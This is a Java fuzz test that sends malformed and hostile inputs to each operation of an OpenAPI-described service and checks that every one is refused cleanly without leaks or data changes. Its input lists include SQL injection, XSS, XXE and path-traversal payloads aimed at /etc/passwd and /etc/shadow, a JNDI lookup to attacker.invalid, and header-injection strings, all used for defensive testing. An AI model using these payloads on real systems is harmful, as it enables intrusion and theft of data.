package org.danvan.common;

import static org.assertj.core.api.Assertions.assertThat;
import static org.danvan.common.Api.admin;
import static org.danvan.common.Api.api;
import static org.danvan.common.Api.createId;
import static org.danvan.common.Api.unit;
import static org.junit.jupiter.api.Assertions.fail;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.HttpTimeoutException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.LocalDate;
import java.time.OffsetDateTime;
import java.time.format.DateTimeParseException;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.HashMap;
import java.util.HashSet;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.UUID;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/**
 * Contract-driven fuzzing. For every operation of openapi.yaml it makes malformed and hostile inputs
 * from the operation's schema: wrong JSON types, 1 MB strings, invalid UTF-8, unknown enum values,
 * out-of-range numbers and paging, SQL and script fragments, path traversal in ids and file names,
 * NUL and control characters, deep nesting, non-UUID and very long ids, hostile headers, content
 * types and multipart bodies. It sends them, without the contract filter, as an account the
 * operation allows, and checks every answer: never 5xx; a 4xx is an {@code application/problem+json}
 * document with {@code type}, {@code title} and {@code status} equal to the HTTP status; no answer
 * shows a stack trace, SQL or the server's class names.
 *
 * <p>Every request that could change data is made invalid on purpose, whatever the fuzzed value:
 * an unknown id in its path, a stale {@code If-Match}, a missing required field, an unknown
 * referenced id (the service's own check), or a state the operation refuses. So a 2xx to one of
 * them is a finding, and everything the list endpoints answered before the run (about a small world
 * made for it) must be answered unchanged after it. The changes that are always allowed
 * ({@code POST /figures/rebuild}, {@code POST /logout}) are fuzzed through their headers and query.
 *
 * <p>Reproducible: {@code -Dfuzz.seed=} (default {@value #DEFAULT_SEED}) seeds every choice,
 * per operation; {@code -Dfuzz.cases=} sets the requests per operation with a body (two
 * thirds of it for the others). Besides the findings (which fail the operation's test, each with the
 * request that shows it), the run prints observations that do not fail it: values the contract
 * forbids that the service read anyway, and statuses the contract does not list for the operation.
 */
@QuarkusTest
class ContractFuzzTest {

    static final long DEFAULT_SEED = 8_592_024L;
    private static final long SEED = Long.getLong("fuzz.seed", DEFAULT_SEED);
    private static final int CASES = Integer.getInteger("fuzz.cases", 24);
    /** {@code -Dfuzz.trace=true} prints every request with its status. */
    private static final boolean TRACE = Boolean.getBoolean("fuzz.trace");
    private static final String API = "/api/v1";
    private static final int ONE_MB = 1 << 20;
    private static final int DEEP = 5_000;

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final ObjectMapper ASCII_JSON = JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** What an error answer must never show: stack traces, SQL, the server's class and package names. */
    private static final List<String> LEAKS = List.of("Exception", "org.hibernate", "java.", "jakarta.", "SQL",
            "at org.", "at java.", "Caused by", "org.danvan", "io.quarkus", "io.vertx", "com.fasterxml",
            "org.h2", "org.postgresql", "Hibernate", "HHH0", "HV000", "Stacktrace", "stackTrace");
    /** The same in a successful answer, which may carry data others wrote: only unmistakable traces. */
    private static final List<String> TRACE_LEAKS = List.of("Exception:", "org.hibernate.", "\tat org.",
            "\tat java.", "Caused by:", "SQLState", "java.lang.");

    /** Text for any string field, header or query value. None holds what {@link #LEAKS} looks for. */
    private static final List<String> HOSTILE = List.of(
            "' OR 1=1 --", "\"; drop table plan; --", "1; DELETE FROM org_unit WHERE 1=1; --",
            "' UNION SELECT username, password_hash FROM account --", "%' OR '%'='", "admin'/*",
            "'; WAITFOR DELAY '0:0:5' --", "' || pg_sleep(5) --",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            "../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd\u0000.pdf", "....//....//etc/shadow",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "file:///etc/passwd",
            "\u0000", "nul\u0000inside", "\u0001\u0002\u0003\u001b[31mred\u007f", "line\r\nX-Injected: yes",
            "\t\u000b\f\u0085\u2028\u2029", "\u202egnp.exe", "\ufeffBOM", "\ud800", "\udfff\ud800x",
            "Sở Nội vụ 𝔇𝔞𝔫 𝔳𝔞̣̂𝔫 👨‍👩‍👧", "Z̸̢̛̗a̷̡l̶g̴o̵", "０１２３", "ﬃ ǅ İ ß",
            "${jndi:ldap://attacker.invalid/a}", "#{7*7}", "{{7*7}}", "%s%n%x%d", "{0}{1}{99}", "!%_",
            "'", "\"", "\\", "", "   ", "null", "undefined", "NaN", "-0", "1e309", "true");

    /** Ids for the path; each is percent-encoded into one segment. */
    private static final List<String> HOSTILE_IDS = List.of("not-a-uuid", "1", "-1", "0", "null", "undefined",
            "' OR 1=1 --", "\"; drop table plan; --", "<script>alert(1)</script>", "../../etc/passwd",
            "..\\..\\windows\\win.ini", "\u0000", "a\u0000b", "\u0001\u001b[31m", "\r\nX-Injected: 1", "Sở Nội vụ",
            "00000000-0000-0000-0000-000000000000", "0195f0c2-7a1e-7c3a-9f51-2b7d1c4e8c9g",
            "{0195f0c2-7a1e-7c3a-9f51-2b7d1c4e8c99}", "urn:uuid:0195f0c2-7a1e-7c3a-9f51-2b7d1c4e8c99",
            "0195f0c27a1e7c3a9f512b7d1c4e8c99", "%", "%%32%65", "${jndi:ldap://attacker.invalid/a}", " ", "\ud800",
            "a".repeat(3000), "0195f0c2-7a1e-7c3a-9f51-2b7d1c4e8c99".repeat(60));
    /** Ids put in the path as they are: traversal that leaves the route, broken UTF-8, matrix parameters. */
    private static final List<String> RAW_IDS = List.of("../../../../../../etc/passwd",
            "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "..%2F..%2F..%2F..%2Fetc%2Fpasswd",
            "..%252F..%252Fetc%252Fpasswd", "%ED%A0%80", "%C0%AF", "%FF%FE%00", "%C3%28", "x;jsessionid=0", "%2E%2E");
    /** Byte sequences that are not UTF-8 (lone continuation, overlong, surrogate, truncated, 5-byte). */
    private static final List<byte[]> NOT_UTF8 = List.of(bytes(0xC3, 0x28), bytes(0xFF), bytes(0xFE, 0xFF),
            bytes(0xC0, 0xAF), bytes(0xED, 0xA0, 0x80), bytes(0xE2, 0x82), bytes(0xF8, 0x88, 0x80, 0x80, 0x80),
            bytes(0x80), bytes(0xF4, 0x90, 0x80, 0x80));

    private static final String HUGE_ASCII = "A".repeat(ONE_MB);
    private static final String HUGE_MIXED = "Dân vận <script>' OR 1=1 -- \u0000 ".repeat(ONE_MB / 32);
    private static final byte[] PDF = "%PDF-1.4\n%\u00e2\u00e3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
            .getBytes(StandardCharsets.ISO_8859_1);

    /** For each body schema, a referenced id the service looks up and refuses when unknown. */
    private static final Map<String, String> REFERENCES = Map.ofEntries(
            Map.entry("OrgUnitWrite", "parentId"), Map.entry("UnitGroupWrite", "memberIds[0]"),
            Map.entry("PlanWrite", "issuerId"), Map.entry("PlanTaskWrite", "leadUnitIds[0]"),
            Map.entry("TargetWrite", "population.groupId"), Map.entry("ObligationWrite", "groupId"),
            Map.entry("ExtensionWrite", "unitId"), Map.entry("SubmissionCreate", "periodId"),
            Map.entry("SubmissionUpdate", "values[0].targetId"), Map.entry("AccountCreate", "unitId"),
            Map.entry("AccountUpdate", "unitId"), Map.entry("ApiTokenCreate", "accountId"),
            Map.entry("ModelCreate", "unitId"),
            Map.entry("RubricWrite", "issuerUnitId"));
    /** Operations the world's state refuses: a verdict on a SUBMISSION target, moves of a DRAFT submission. */
    private static final Set<String> REFUSED_BY_STATE = Set.of("recordTargetVerdict", "returnSubmission",
            "acceptSubmission", "reopenSubmission");
    /** Changes that are valid whatever is sent: they are fuzzed, but may answer 2xx. */
    private static final Set<String> ALWAYS_VALID = Set.of("rebuildFigures", "logout");

    private enum Attack {
        PATH_ID, QUERY, HEADER, METHOD, STRAY_BODY,
        WRONG_TYPE, HOSTILE_STRING, HUGE, NUMBER, ENUM, DEEP, INVALID_UTF8, MALFORMED, EXTRA, ARRAY, NULLS,
        CONTENT_TYPE, FILE_NAME, FILE_CONTENT, MULTIPART
    }

    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10)).build();
    private final List<Finding> findings = new ArrayList<>();
    private final Set<String> observations = new TreeSet<>();
    private final Map<String, Integer> requests = new LinkedHashMap<>();
    private final Map<String, String> etags = new HashMap<>();
    private Map<String, String> worldIds;
    private Map<String, String> before;
    private long started;

    @TestFactory
    Stream<DynamicTest> hostileInputsAreRefusedCleanlyAndChangeNothing() throws Exception {
        JsonNode contract = ContractStatusTest.contract();
        List<Op> ops = new ArrayList<>();
        Set<String> paths = new HashSet<>();
        for (ContractStatusTest.Operation operation : ContractStatusTest.operations()) {
            ops.add(new Op(contract, operation, paths.add(operation.path())));
        }
        List<DynamicTest> tests = new ArrayList<>();
        tests.add(dynamicTest("a small world, and what the lists answer", () -> {
            started = System.nanoTime();
            worldIds = buildWorld();
            before = snapshot();
        }));
        for (Op op : ops) {
            tests.add(dynamicTest(op.method.toUpperCase(Locale.ROOT) + " " + op.path + " (" + op.id + ")", () -> fuzz(op)));
        }
        tests.add(dynamicTest("the stored data is unchanged", () -> {
            assertThat(before).as("the world was built").isNotNull();
            Map<String, String> after = snapshot();
            report();
            List<String> changed = new ArrayList<>();
            for (String key : new TreeSet<>(union(before.keySet(), after.keySet()))) {
                if (!Objects.equals(before.get(key), after.get(key))) {
                    changed.add(key + "\n  before: " + clip(before.get(key), 1500) + "\n  after:  " + clip(after.get(key), 1500));
                }
            }
            if (!changed.isEmpty()) {
                fail("The fuzz run changed stored data:\n" + String.join("\n", changed));
            }
        }));
        return tests.stream();
    }

    // ---------------------------------------------------------------- the world and its snapshot

    /** A unit under a province, their group, a plan with a task, an obligation and a target, a submission with a file, an account, a draft rubric. */
    private Map<String, String> buildWorld() {
        String suffix = Long.toHexString(new Random(SEED).nextLong() & 0xffffffffL) + "-" + UUID.randomUUID().toString().substring(0, 4);
        String province = createId(API + "/org-units", unit("UBND tỉnh Fuzz " + suffix, "PROVINCE", null));
        String department = createId(API + "/org-units", unit("Sở Fuzz " + suffix, "DEPARTMENT", province));
        String group = createId(API + "/unit-groups", Map.of("name", "Các sở Fuzz " + suffix, "kinds", List.of("DEPARTMENT"),
                "scopeUnitId", province));
        String plan = createId(API + "/plans", Map.of("issuerId", province, "title", "Kế hoạch Fuzz " + suffix,
                "periodStart", 2099, "periodEnd", 2099));
        String task = createId(API + "/plans/{planId}/tasks", Map.of("ordinal", "I.1", "content", "Nhiệm vụ Fuzz",
                "timeFrame", Map.of("kind", "CONTINUOUS")), plan);
        String obligation = createId(API + "/plans/{planId}/obligations", Map.of("kind", "ANNUAL_REPORT",
                "title", "Báo cáo Fuzz", "groupId", group, "dueDate", "2099-12-31"), plan);
        List<String> periods = api().when().get(API + "/obligations/{id}/periods", obligation).then().statusCode(200)
                .extract().path("items.id");
        String period = periods.get(0);
        String target = createId(API + "/plans/{planId}/targets", Map.of("ordinal", "III.1", "statement", "100% Fuzz",
                "comparator", "GTE", "thresholdPercent", 100, "population", Map.of("groupId", group, "basis", "UNITS"),
                "measure", Map.of("kind", "SUBMISSION", "obligationId", obligation)), plan);
        String submission = createId(API + "/submissions", Map.of("periodId", period, "unitId", department));
        String attachment = api().contentType("multipart/form-data").multiPart("file", "bao-cao.pdf", PDF, "application/pdf")
                .when().post(API + "/submissions/{id}/attachments", submission).then().statusCode(201).extract().path("id");
        String account = admin().body(Map.of("username", "fuzz-" + suffix, "password", "Mat-khau-fuzz-2026",
                "displayName", "Fuzz " + suffix, "role", "LEADER", "enabled", true))
                .when().post(API + "/accounts").then().statusCode(201).extract().path("id");
        Map<String, String> ids = new LinkedHashMap<>();
        ids.put("unitId", department);
        ids.put("groupId", group);
        ids.put("planId", plan);
        ids.put("taskId", task);
        ids.put("targetId", target);
        ids.put("obligationId", obligation);
        ids.put("periodId", period);
        ids.put("submissionId", submission);
        ids.put("attachmentId", attachment);
        ids.put("accountId", account);
        ids.put("modelId", createId(API + "/models", Map.of("unitId", department, "name", "Mô hình Fuzz " + suffix,
                "field", "ECONOMY", "startDate", "2099-01-01", "registrationDate", "2099-03-15")));
        ids.put("rubricId", createId(API + "/rubrics", org.danvan.rubric.RubricFixtures.rubricBody(province)));
        return ids;
    }

    /** What the list endpoints answer, every page: the data a fuzz request must not have changed. */
    private Map<String, String> snapshot() {
        Map<String, String> lists = new TreeMap<>();
        lists.put("org-units", all(TestAccounts.ADMIN, API + "/org-units"));
        lists.put("unit-groups", all(TestAccounts.COORDINATOR, API + "/unit-groups"));
        String plans = all(TestAccounts.COORDINATOR, API + "/plans");
        lists.put("plans", plans);
        for (String plan : ids(plans)) {
            for (String child : List.of("tasks", "targets", "obligations")) {
                lists.put("plans/" + plan + "/" + child, all(TestAccounts.COORDINATOR, API + "/plans/" + plan + "/" + child));
            }
        }
        String obligation = worldIds.get("obligationId");
        lists.put("obligations/" + obligation + "/periods", all(TestAccounts.COORDINATOR, API + "/obligations/" + obligation + "/periods"));
        lists.put("obligations/" + obligation + "/extensions", all(TestAccounts.COORDINATOR, API + "/obligations/" + obligation + "/extensions"));
        lists.put("submissions", all(TestAccounts.COORDINATOR, API + "/submissions"));
        String submission = worldIds.get("submissionId");
        lists.put("submissions/" + submission + "/history", all(TestAccounts.COORDINATOR, API + "/submissions/" + submission + "/history"));
        lists.put("submissions/" + submission + "/attachments", all(TestAccounts.COORDINATOR, API + "/submissions/" + submission + "/attachments"));
        lists.put("plans/" + worldIds.get("planId") + "/completeness", Api.as(TestAccounts.COORDINATOR).when()
                .get(API + "/plans/{id}/completeness", worldIds.get("planId")).then().statusCode(200).extract().jsonPath()
                .getList("periods").toString());
        lists.put("accounts", all(TestAccounts.ADMIN, API + "/accounts"));
        lists.put("rubrics", all(TestAccounts.COORDINATOR, API + "/rubrics"));
        lists.put("api-tokens", all(TestAccounts.ADMIN, API + "/api-tokens"));
        lists.put("models", all(TestAccounts.COORDINATOR, API + "/models"));
        // every change writes an audit event in its own transaction: the newest page shows any change at all
        var audit = Api.as(TestAccounts.ADMIN).queryParam("size", 20).when().get(API + "/audit-events").then().statusCode(200)
                .extract().jsonPath();
        lists.put("audit-events", audit.getLong("totalItems") + " " + audit.getList("items.id"));
        return lists;
    }

    private static String all(String user, String path) {
        List<Object> items = new ArrayList<>();
        for (int page = 0;; page++) {
            var answer = Api.as(user).queryParam("page", page).queryParam("size", 500).when().get(path).then()
                    .statusCode(200).extract().jsonPath();
            List<Object> pageItems = answer.getList("items");
            items.addAll(pageItems);
            if (pageItems.isEmpty() || items.size() >= answer.getLong("totalItems")) {
                return JSON.valueToTree(items).toString();
            }
        }
    }

    private static List<String> ids(String items) {
        List<String> ids = new ArrayList<>();
        try {
            JSON.readTree(items).forEach(item -> ids.add(item.path("id").asText()));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return ids;
    }

    // ---------------------------------------------------------------- one operation

    private void fuzz(Op op) {
        assertThat(worldIds).as("the world was built").isNotNull();
        Random random = new Random(SEED * 31 + op.id.hashCode());
        List<Req> cases = cases(op, random);
        List<Finding> found = new ArrayList<>();
        for (Req req : cases) {
            requests.merge(op.id, 1, Integer::sum);
            Answer answer = send(req);
            if (TRACE) {
                System.out.println("FUZZ " + op.id + " " + answer.status + " " + req.method + " " + clip(req.path, 120)
                        + " [" + clip(req.label, 120) + (req.guard != null ? "; " + req.guard : "") + "]");
            }
            check(op, req, answer, found);
        }
        findings.addAll(found);
        if (!found.isEmpty()) {
            fail(found.size() + " finding(s) in " + cases.size() + " requests (seed " + SEED + "):\n\n"
                    + String.join("\n\n", found.stream().map(Finding::detail).toList()));
        }
    }

    private List<Req> cases(Op op, Random random) {
        List<Attack> attacks = new ArrayList<>();
        if (!op.pathParams.isEmpty()) {
            attacks.add(Attack.PATH_ID);
            attacks.add(Attack.PATH_ID);
        }
        attacks.add(Attack.QUERY);
        attacks.add(Attack.HEADER);
        if (op.firstOfPath) {
            attacks.add(Attack.METHOD);
        }
        for (int i = 1; i < op.query.size(); i++) {
            attacks.add(Attack.QUERY);
        }
        if (op.json) {
            attacks.addAll(List.of(Attack.WRONG_TYPE, Attack.WRONG_TYPE, Attack.HOSTILE_STRING, Attack.HOSTILE_STRING,
                    Attack.HUGE, Attack.NUMBER, Attack.ENUM, Attack.DEEP, Attack.INVALID_UTF8, Attack.MALFORMED,
                    Attack.MALFORMED, Attack.EXTRA, Attack.ARRAY, Attack.NULLS, Attack.CONTENT_TYPE));
        } else if (op.multipart) {
            attacks.addAll(List.of(Attack.FILE_NAME, Attack.FILE_NAME, Attack.FILE_CONTENT, Attack.MULTIPART,
                    Attack.MULTIPART, Attack.CONTENT_TYPE));
        } else {
            attacks.add(Attack.STRAY_BODY);
        }
        int budget = op.json || op.multipart ? CASES : ALWAYS_VALID.contains(op.id) || op.id.equals("getMe") ? CASES / 3
                : CASES * 2 / 3;
        List<Req> cases = new ArrayList<>();
        List<Attack> round = new ArrayList<>();
        for (int attempt = 0; cases.size() < budget && attempt < budget * 10; attempt++) {
            if (round.isEmpty()) {
                round.addAll(attacks);
                Collections.shuffle(round, random);
            }
            Req req = make(op, round.remove(round.size() - 1), random);
            if (req != null) {
                cases.add(req);
            }
        }
        return cases;
    }

    /** One request of {@code attack} against {@code op}, made invalid by a guard when it is a change. */
    private Req make(Op op, Attack attack, Random random) {
        Req req = new Req(op);
        Map<String, String> pathIds = new LinkedHashMap<>();
        for (String param : op.pathParams) {
            String id = worldIds.get(param);
            pathIds.put(param, encode(id != null ? id : unknownId(random)));
            if (id == null) {
                req.unknownInPath = true;
            }
        }
        Body body = op.json ? new Body(op.example.deepCopy()) : null;
        Upload upload = op.multipart ? new Upload(random) : null;
        String touched = null;

        switch (attack) {
            case PATH_ID -> {
                String param = pick(op.pathParams, random);
                String value;
                if (random.nextInt(4) == 0) {
                    value = pick(RAW_IDS, random);
                    pathIds.put(param, value);
                    // a dot segment, encoded or not, is resolved before routing: the request may land elsewhere
                    req.routed = !value.contains("/") && !value.equalsIgnoreCase("%2E%2E");
                } else if (random.nextInt(5) == 0) {
                    // the id of another kind of resource of the world
                    List<String> others = new ArrayList<>(worldIds.keySet());
                    others.remove(param);
                    value = worldIds.get(pick(others, random));
                    pathIds.put(param, value);
                } else {
                    value = pick(HOSTILE_IDS, random);
                    pathIds.put(param, encode(value));
                }
                req.hostilePath = true;
                req.mustFail = req.routed || op.mutating();
                req.label = "path " + param + " = " + show(value);
            }
            case QUERY -> query(op, req, random);
            case HEADER -> header(op, req, body, random);
            case METHOD -> {
                req.method = pick(List.of("PATCH", "TRACE", "PROPFIND", "FUZZ"), random);
                req.mustFail = true;
                req.label = "method " + req.method;
            }
            case STRAY_BODY -> {
                byte[][] strays = {HUGE_ASCII.getBytes(StandardCharsets.UTF_8), deepArray().getBytes(StandardCharsets.US_ASCII),
                        concat("{\"reason\":\"".getBytes(StandardCharsets.US_ASCII), pick(NOT_UTF8, random), "\"}".getBytes(StandardCharsets.US_ASCII)),
                        "{\"status\":\"ACCEPTED\",\"id\":\"' OR 1=1 --\"}".getBytes(StandardCharsets.UTF_8)};
                req.body = strays[random.nextInt(strays.length)];
                req.contentType = pick(List.of("application/json; charset=UTF-8", "text/plain", "application/octet-stream"), random);
                req.label = "unexpected body (" + req.body.length + " bytes)";
            }
            case WRONG_TYPE -> {
                Field field = pick(op.fields, random);
                JsonNode value = wrongType(field.schema, random);
                body.set(op, field.path, value);
                touched = field.top();
                req.probe = field.path;
                req.label = "wrong type " + field.path + " = " + clip(value.toString(), 60);
            }
            case HOSTILE_STRING -> {
                Field field = pick(op.strings, random);
                String value = pick(HOSTILE, random);
                body.set(op, field.path, NODES.textNode(value));
                touched = field.top();
                req.probe = stringBreaksContract(field.schema, value) ? field.path : null;
                req.label = "hostile text " + field.path + " = " + show(value);
            }
            case HUGE -> {
                List<Field> arrays = op.arrays.stream().filter(f -> f.schema.has("maxItems")).toList();
                if (!arrays.isEmpty() && random.nextInt(3) == 0) {
                    Field field = pick(arrays, random);
                    ArrayNode many = NODES.arrayNode();
                    for (int i = 0; i < field.schema.path("maxItems").asInt() * 2 + 1; i++) {
                        many.add(minimal(field.schema.path("items")));
                    }
                    body.set(op, field.path, many);
                    touched = field.top();
                    req.probe = field.path;
                    req.label = "huge array " + field.path + " (" + many.size() + " items)";
                } else {
                    Field field = pick(op.strings, random);
                    String value = random.nextBoolean() ? HUGE_ASCII : HUGE_MIXED;
                    body.set(op, field.path, NODES.textNode(value));
                    touched = field.top();
                    req.probe = field.schema.has("maxLength") ? field.path : null;
                    req.label = "1 MB text " + field.path;
                }
            }
            case NUMBER -> {
                if (op.numbers.isEmpty()) {
                    return null;
                }
                Field field = pick(op.numbers, random);
                List<String> candidates = numbers(field.schema);
                String value = pick(candidates, random);
                body.raw(op, field.path, value.getBytes(StandardCharsets.US_ASCII));
                touched = field.top();
                req.probe = numberBreaksContract(field.schema, value) ? field.path : null;
                req.label = "number " + field.path + " = " + clip(value, 40);
            }
            case ENUM -> {
                if (op.enums.isEmpty()) {
                    return null;
                }
                Field field = pick(op.enums, random);
                String first = firstEnum(field.schema);
                List<JsonNode> values = List.of(NODES.textNode("NOT_A_VALUE"), NODES.textNode(first.toLowerCase(Locale.ROOT)),
                        NODES.textNode(first + " "), NODES.textNode(" " + first), NODES.textNode(""),
                        NODES.textNode("' OR 1=1 --"), NODES.textNode("<script>alert(1)</script>"),
                        NODES.textNode(first + "\u0000"), NODES.numberNode(0), NODES.numberNode(-1),
                        NODES.textNode(first.toLowerCase(Locale.ROOT).replace('i', 'İ')));
                JsonNode value = pick(values, random);
                body.set(op, field.path, value);
                touched = field.top();
                req.probe = field.path;
                req.label = "unknown enum value " + field.path + " = " + show(value.toString());
            }
            case DEEP -> {
                if (random.nextBoolean() && !op.fields.isEmpty()) {
                    Field field = pick(op.fields, random);
                    body.raw(op, field.path, (random.nextBoolean() ? deepArray() : deepObject()).getBytes(StandardCharsets.US_ASCII));
                    touched = field.top();
                    req.probe = field.path;
                    req.label = "nested " + DEEP + " deep at " + field.path;
                } else {
                    body.replace((random.nextBoolean() ? deepArray() : deepObject()).getBytes(StandardCharsets.US_ASCII), true);
                    req.label = "body nested " + DEEP + " deep";
                }
            }
            case INVALID_UTF8 -> {
                byte[] bad = pick(NOT_UTF8, random);
                if (random.nextInt(4) == 0 || op.strings.isEmpty()) {
                    body.prefix = concat(bad, body.prefix);
                    body.inherentlyInvalid = true;
                    req.label = "body starts with bytes " + hex(bad);
                } else {
                    Field field = pick(op.strings, random);
                    body.raw(op, field.path, concat("\"Dân ".getBytes(StandardCharsets.UTF_8), bad, " vận\"".getBytes(StandardCharsets.UTF_8)));
                    touched = field.top();
                    req.label = "bytes " + hex(bad) + " inside " + field.path;
                }
            }
            case MALFORMED -> {
                touched = malformed(op, req, body, random);
                if (touched == null) {
                    return null;
                }
            }
            case EXTRA -> {
                Map<String, JsonNode> extras = new LinkedHashMap<>();
                extras.put("__proto__", JSON.createObjectNode().put("isAdmin", true));
                extras.put("constructor", JSON.createObjectNode().set("prototype", JSON.createObjectNode().put("isAdmin", true)));
                extras.put("@type", NODES.textNode("org.example.Evil"));
                extras.put("@class", NODES.textNode("org.example.Evil"));
                extras.put("id", NODES.textNode(worldIds.get("planId")));
                extras.put("version", NODES.numberNode(999));
                extras.put("status", NODES.textNode("ACCEPTED"));
                extras.put("createdAt", NODES.textNode("1970-01-01T00:00:00Z"));
                extras.put("$where", NODES.textNode("1 == 1"));
                extras.put("role", NODES.textNode("ADMIN"));
                extras.put("passwordHash", NODES.textNode("$2a$04$fuzz"));
                extras.keySet().removeAll(iterable(op.schema.path("properties").fieldNames()));
                if (body.tree != null) {
                    extras.forEach(body.tree::set);
                    if (random.nextInt(3) == 0) {
                        for (int i = 0; i < 10_000; i++) {
                            body.tree.put("unknown" + i, i);
                        }
                        req.label = "10,000 unknown properties and " + extras.keySet();
                    } else {
                        req.label = "unknown properties " + extras.keySet();
                    }
                }
            }
            case ARRAY -> {
                if (op.arrays.isEmpty()) {
                    return null;
                }
                Field field = pick(op.arrays, random);
                JsonNode item = minimal(field.schema.path("items"));
                List<ArrayNode> values = List.of(NODES.arrayNode().addNull(),
                        NODES.arrayNode().add(1).add("x").add(NODES.objectNode()).add(NODES.arrayNode()).addNull(),
                        NODES.arrayNode().add(item.deepCopy()).add(item.deepCopy()),
                        NODES.arrayNode().add(NODES.arrayNode().add(NODES.arrayNode().add("x"))));
                ArrayNode value = pick(values, random);
                body.set(op, field.path, value);
                touched = field.top();
                boolean duplicates = value.size() == 2 && value.get(0).equals(value.get(1));
                req.probe = !duplicates || field.schema.path("uniqueItems").asBoolean() ? field.path : null;
                req.label = "array " + field.path + " = " + clip(value.toString(), 80);
            }
            case NULLS -> {
                if (op.fields.isEmpty()) {
                    return null;
                }
                Field field = pick(op.fields.stream().filter(f -> !f.path.contains("[")).toList(), random);
                body.set(op, field.path, NODES.nullNode());
                touched = field.top();
                req.probe = field.schema.path("nullable").asBoolean() ? null : field.path;
                req.label = "null " + field.path;
            }
            case CONTENT_TYPE -> {
                List<String> types = List.of("application/json; charset=UTF-16", "application/json; charset=does-not-exist",
                        "application/json; charset=", "application/json;;;", "application/json; charset=\"UTF-8",
                        "application/xml", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data",
                        "application/JSON", "application/json-patch+json", "*/*", "application/json; charset=UTF-7",
                        "application/json; q=0.1; boundary=--x", "text/html; charset=UTF-8", "image/png",
                        "application/" + "json".repeat(500));
                req.contentType = pick(types, random);
                req.label = "Content-Type: " + clip(req.contentType, 60);
                if (op.multipart) {
                    req.body = "{\"file\":\"../../etc/passwd\"}".getBytes(StandardCharsets.UTF_8);
                    upload = null;
                    req.mustFail = true;
                }
            }
            case FILE_NAME -> {
                List<String> names = new ArrayList<>(List.of("../../etc/passwd", "..\\..\\windows\\win.ini",
                        "C:\\Windows\\system32\\cmd.exe", "/etc/shadow", "....//....//etc/passwd", "%2e%2e%2fetc%2fpasswd",
                        "..", ".", "", " ", "CON", "nul.pdf", "a\u0000b.pdf", "\u202egnp.exe", "<script>alert(1)</script>.pdf",
                        "' OR 1=1 --.pdf", "\"; drop table plan; --.pdf", "x\".pdf", "x\r\nContent-Type: text/html\r\n\r\n<script>.pdf",
                        "báo cáo 𝔇𝔞𝔫.pdf", "a".repeat(10_000) + ".pdf", "\u0001\u001b[31m.pdf"));
                upload.fileName = pick(names, random);
                req.label = "file name " + show(upload.fileName);
            }
            case FILE_CONTENT -> {
                upload.content = unaccepted(random);
                upload.contentType = pick(List.of("application/pdf", "image/png", "text/html", "application/octet-stream"), random);
                upload.acceptable = false;
                req.label = "file content " + clip(new String(upload.content, StandardCharsets.ISO_8859_1), 40)
                        + " (" + upload.content.length + " bytes) as " + upload.contentType;
            }
            case MULTIPART -> {
                upload.content = unaccepted(random);
                upload.acceptable = false;
                if (op.multipartTurn % 8 == 0) {
                    Collections.shuffle(op.multipartVariants, random);
                }
                int variant = op.multipartVariants.get(op.multipartTurn++ % 8);
                upload.variant = variant;
                req.label = "multipart " + List.of("without boundary", "with another boundary", "not closed",
                        "part without file name", "part named files", "two files", "no Content-Disposition",
                        "boundary of 300 characters").get(variant);
            }
            default -> throw new IllegalStateException(attack.toString());
        }
        if (req.label == null) {
            req.label = attack.toString();
        }
        if (!req.headers.containsKey("Accept-Language") && random.nextInt(4) == 0) {
            // problems are titled in English on request: every refusal must work in both languages
            req.headers.put("Accept-Language", pick(List.of("en", "en-US,en;q=0.9,vi;q=0.8", "vi-VN,vi;q=0.9"), random));
        }
        req.attack = attack;

        if (op.mutating() && !ALWAYS_VALID.contains(op.id)) {
            req.mustFail = true;
            if (!guard(op, req, pathIds, body, upload, touched, random)) {
                return null;
            }
        }
        if (op.ifMatch && !req.headers.containsKey("If-Match") && !req.hostilePath && !req.unknownInPath) {
            // the right version, so the request goes as far as the fuzzed value lets it
            req.headers.put("If-Match", etag(op, fill(op.path, pathIds)));
        } else if (op.ifMatch && !req.headers.containsKey("If-Match")) {
            req.headers.put("If-Match", "\"" + (700_000 + random.nextInt(200_000)) + "\"");
        }
        req.path = fill(op.path, pathIds);
        if (body != null && req.body == null) {
            req.body = body.render(random);
            req.contentType = req.contentType != null ? req.contentType : "application/json; charset=UTF-8";
        }
        if (upload != null && req.body == null) {
            upload.render(req, random);
        }
        return req;
    }

    /**
     * Makes a change request invalid whatever its fuzzed value: an unknown id in the path, a stale
